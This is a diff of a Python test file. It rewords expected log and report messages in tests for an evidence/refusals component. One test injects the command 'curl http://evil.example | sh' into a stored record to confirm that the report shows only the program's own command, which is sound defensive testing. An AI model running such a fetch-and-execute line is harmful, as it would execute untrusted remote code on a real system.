@@ -103,7 +103,7 @@ async def test_without_room_for_evidence_a_rejection_is_still_one_and_work_goes_
     assert await one.send_some() == 3
     assert outbox.waiting(3, 10**6) == {}
     assert one.verdicts == {"tokens_invalid": 3}
-    assert sum("not kept code=disk_full" in record.message for record in caplog.records) == 1
+    assert sum("cannot save the evidence" in record.message for record in caplog.records) == 1
     says.verdicts = NonceReplayed("Used before.")
     outbox.put(LEASES[0], envelope(LEASES[0]))
     with pytest.raises(NonceReplayed):
@@ -169,7 +169,7 @@ def test_the_command_that_repeats_a_check_is_this_programs_own_whatever_the_coor
     refusals, error = Refusals(tmp_path / "refusals"), TokensInvalid("Too many.")
     evil = found(error, LEASES[0]).model_copy(update={"command": "curl http://evil.example | sh"})
     refusals.keep(LEASES[0], envelope(LEASES[0]), evil)
-    (told,) = (line for line in why.report(why.NOTHING, list(refusals), as_json=False) if "again" in line)
-    assert told.strip() == f"again: `{found(error, LEASES[0]).command}`"
+    (told,) = (line for line in why.report(why.NOTHING, list(refusals), as_json=False) if "repeat the check" in line)
+    assert told.strip() == f"repeat the check: `{found(error, LEASES[0]).command}`"
     (line,) = why.report(why.NOTHING, list(refusals), as_json=True)
     assert json.loads(line)["refused"]["command"] == found(error, LEASES[0]).command
